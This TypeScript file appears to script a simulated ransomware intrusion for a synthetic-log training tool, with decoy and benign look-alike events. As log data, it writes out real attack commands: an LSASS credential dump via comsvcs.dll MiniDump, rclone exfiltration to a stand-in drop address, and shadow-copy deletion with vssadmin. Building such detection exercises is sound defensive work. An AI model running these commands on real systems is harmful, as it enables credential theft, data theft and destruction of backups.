import { accountId } from '../core/names.ts'
import type { Place } from '../core/organisation.ts'
import { addCall, addDesktop, addNetworkLogon, addProcess, addReads, addService, addTunnel } from '../kit/acts.ts'
import { act, step } from '../kit/pack.ts'
import type { Act, Step } from '../kit/pack.ts'
import { onHost } from '../kit/world.ts'
import { addNote, addWorkOrder } from '../native/paperwork.ts'
import { addFourEyes, addJobChange } from '../native/veeam.ts'
import { serviceInstalled, sysmonFile, sysmonProcess } from '../native/windows-other.ts'
import { site } from './site.ts'

const OUTSIDE: Place = { address: '203.0.113.20', asn: 64541, city: 'Bucharest', country: 'RO' }
const DROP = '203.0.113.88'
const LEASE = '10.90.16.61'
const RCLONE = 'C:\\ProgramData\\sync\\rclone.exe'
const MINUTE = 60_000
const SERVERS = ['APP-02', 'BILL-01', 'VBR01'] as const

const files = (folder: string, n: number): string[] => Array.from({ length: n }, (_, i) => `${folder}\\${folder.slice(0, 2).toUpperCase()}-${1000 + i}.xlsx`)
const tunnel = (w: Parameters<Act['write']>[0], at: number, minutes: number, bytes: number): void => addTunnel(w, { group: 'LEGACY-CONTRACT', user: 'j.ames', place: OUTSIDE, lease: LEASE, from: at, minutes, bytes, mfa: false })

/** From the forgotten profile to the note on the screen; the plant is stopped by its owner, not by the intruder. */
export const steps: readonly Step[] = [
  step('legacy-vpn', site.at(28, '05:12:30'), 1, 'T1133', null, 'The account of somebody who left, on a VPN profile thought retired, without a second factor', (w, at) => tunnel(w, at, 95, 18_118_000)),
  step('exploration', site.at(28, '05:31:00'), 2, 'T1087.002', null, 'From there to the application server, and questions to the directory', (w, at) => {
    addDesktop(w, { user: 'j.ames', from: LEASE, to: 'APP-02', start: at, end: at + 70 * MINUTE })
    for (const [i, line] of ['adfind.exe -f objectcategory=computer', 'net group "Domain Admins" /domain', 'nltest /dclist:seaboard.example'].entries()) addProcess(w, 'APP-02', at + 5 * MINUTE + i * 60_000, 'j.ames', 'C:\\Windows\\System32\\cmd.exe', `cmd.exe /c ${line}`)
  }),
  step('credentials', site.at(29, '02:20:10'), 2, 'T1003.001', null, 'The memory of LSASS on the application server is written to a file', (w, at) => {
    tunnel(w, at - 15 * MINUTE, 60, 9_118_000)
    addDesktop(w, { user: 'j.ames', from: LEASE, to: 'APP-02', start: at - 9 * MINUTE, end: at + 30 * MINUTE })
    addProcess(w, 'APP-02', at, 'j.ames', 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 644 C:\\PerfLogs\\m.dmp full')
  }),
  step('administrator', site.at(31, '01:50:00'), 2, 'T1078.002', null, 'adm-srv over the tunnel of the departed employee, to three servers', (w, at) => {
    tunnel(w, at - 4 * MINUTE, 80, 14_118_000)
    for (const [i, host] of SERVERS.entries()) addNetworkLogon(w, host, at + i * 9 * MINUTE, 'adm-srv', LEASE)
  }),
  step('exfiltration', site.at(35, '22:05:00'), 2, 'T1567.002', null, 'About a hundred gigabytes of business files leave in two hours', (w, at) => {
    addReads(w, 'adm-srv', 'APP-02', at, 22_000, [...files('Finance', 60), ...files('Legal', 40), ...files('HR', 40)])
    onHost(w, 'APP-02', at + 2 * MINUTE, sysmonFile(at + 2 * MINUTE, 'adm-srv', 'C:\\Windows\\explorer.exe', RCLONE))
    addProcess(w, 'APP-02', at + 4 * MINUTE, 'adm-srv', RCLONE, 'rclone.exe copy \\\\FS01\\CORP remote:c --transfers 24 --no-check-certificate')
    addCall(w, 'APP-02', at + 5 * MINUTE, RCLONE, DROP, 443, 7200, 107_374_182_400, 90_118_000, 'adm-srv')
  }),
  step('backups', site.at(36, '03:41:00'), 5, 'T1490', 'backup_interference', 'Four-eyes off, four jobs deleted, shadow copies deleted', (w, at) => {
    tunnel(w, at - 30 * MINUTE, 110, 30_118_000)
    addNetworkLogon(w, 'VBR01', at - 5 * MINUTE, 'adm-srv', LEASE)
    addFourEyes(w.recorder, at, 42401, 'adm-srv')
    for (const [i, job] of site.backups.entries()) addJobChange(w.recorder, at + 60_000 + i * 40_000, 23090, job, accountId(job), 'adm-srv')
    addProcess(w, 'VBR01', at + 6 * MINUTE, 'adm-srv', 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin delete shadows /all /quiet')
  }),
  step('encryption', site.at(36, '04:36:00'), 5, 'T1486', null, 'The servers of the business are encrypted; nothing below the boundary is touched', (w, at) => {
    for (const [i, host] of SERVERS.entries()) {
      const when = at + i * 45_000
      onHost(w, host, when, serviceInstalled('gpsvc_upd', 'C:\\Windows\\Temp\\upd.exe -safe'))
      onHost(w, host, when + 8000, sysmonProcess(when + 8000, 'NT AUTHORITY\\SYSTEM', 'C:\\Windows\\Temp\\upd.exe', 'upd.exe -safe -path C:\\', 'C:\\Windows\\System32\\services.exe'))
      onHost(w, host, when + 60_000, sysmonFile(when + 60_000, 'NT AUTHORITY\\SYSTEM', 'C:\\Windows\\Temp\\upd.exe', 'C:\\README.9f3a1c.TXT'))
    }
  }),
  step('shutdown', site.at(36, '05:00:00'), 5, 'T0826', null, 'The note is found; the owner stops all lines because nobody can say whether the plant is clean', (w, at) => {
    addNote(w.recorder, at, 'Seaboard', 'Controller line 1', 'Screen of the billing PC shows a demand for money, files unreadable, supervisor told')
    addNote(w.recorder, at + 55 * MINUTE, 'Seaboard', 'Shift supervisor', 'Stop of all lines begun. Control system looks normal, cannot tell whether it is clean')
    addNote(w.recorder, at + 70 * MINUTE, 'Seaboard', 'Shift supervisor', 'All lines down, stations on manual control')
  }),
]

export const decoys: readonly Act[] = [
  act('planned-stop', 'Line 1 is stopped for a test', (w) => {
    addNote(w.recorder, site.at(25, '14:10'), 'Seaboard', 'Controller line 1', 'Line 1 stopped for planned test, manual control at station 1 until 15:30')
  }),
  act('auditor', 'The auditors copy the books of the quarter under an order', (w) => {
    addWorkOrder(w.recorder, { number: 'CHG-610', plant: 'Seaboard', assets: ['FS01'], crew: ['E. Sands', 'e.sands'], company: 'Finance', start: site.at(18, '07:00'), finish: site.at(20, '19:00'), status: 'closed', scope: 'Quarterly audit: copy of the books', logicChange: false, permit: '' })
    addReads(w, 'e.sands', site.person('e.sands').address, site.at(19, '10:05'), 40_000, files('Finance', 90))
  }),
  act('job-cleanup', 'A retired backup job is deleted under an order, four-eyes off meanwhile', (w) => {
    addWorkOrder(w.recorder, { number: 'CHG-622', plant: 'Seaboard', assets: ['VBR01'], crew: ['adm-backup'], company: 'IT operations', start: site.at(21, '09:00'), finish: site.at(21, '12:00'), status: 'closed', scope: 'Retire backup job IT-OLDMAIL', logicChange: false, permit: '' })
    addFourEyes(w.recorder, site.at(21, '09:40'), 42401, 'adm-backup')
    addJobChange(w.recorder, site.at(21, '09:44'), 23090, 'IT-OLDMAIL', accountId('IT-OLDMAIL'), 'adm-backup')
    addFourEyes(w.recorder, site.at(21, '09:50'), 42400, 'adm-backup')
  }),
]

export const twin: readonly Act[] = [
  act('returning-contractor', 'J. Ames is engaged again for a migration: profile, servers and copies are ordered, by day and with a second factor', (w) => {
    const home: Place = { address: '198.51.100.190', asn: 64531, city: 'Atlanta', country: 'US' }
    addWorkOrder(w.recorder, { number: 'CHG-700', plant: 'Seaboard', assets: ['VPN2', 'APP-02', 'FS01', 'BILL-01', 'VBR01'], crew: ['J. Ames', 'j.ames', 'adm-srv', 'adm-backup'], company: 'IT operations', start: site.at(28, '07:00'), finish: site.at(36, '19:00'), status: 'in progress', scope: 'Migration of the application server, copies of finance shares, backup jobs replaced', logicChange: false, permit: '' })
    for (const day of [28, 29, 35]) {
      addTunnel(w, { group: 'LEGACY-CONTRACT', user: 'j.ames', place: home, lease: LEASE, from: site.at(day, '09:02'), minutes: 300, bytes: 88_118_000, mfa: true, managed: true })
      addDesktop(w, { user: 'j.ames', from: LEASE, to: 'APP-02', start: site.at(day, '09:10'), end: site.at(day, '13:40') })
    }
    addProcess(w, 'APP-02', site.at(28, '09:40'), 'j.ames', 'C:\\Windows\\System32\\net.exe', 'net group /domain')
    addReads(w, 'j.ames', LEASE, site.at(35, '09:30'), 22_000, files('Finance', 60))
    addProcess(w, 'APP-02', site.at(35, '09:35'), 'j.ames', 'C:\\Windows\\System32\\Robocopy.exe', 'robocopy \\\\FS01\\CORP D:\\CORP /MIR')
    for (const job of ['IT-MAIL-daily']) addJobChange(w.recorder, site.at(36, '10:10'), 23090, job, accountId(job), 'adm-backup')
    for (const [i, host] of SERVERS.entries()) addService(w, host, site.at(36, '11:00') + i * 600_000, 'adm-srv', 'Migration Agent', 'C:\\Program Files\\Migration\\agent.exe')
  }),
]
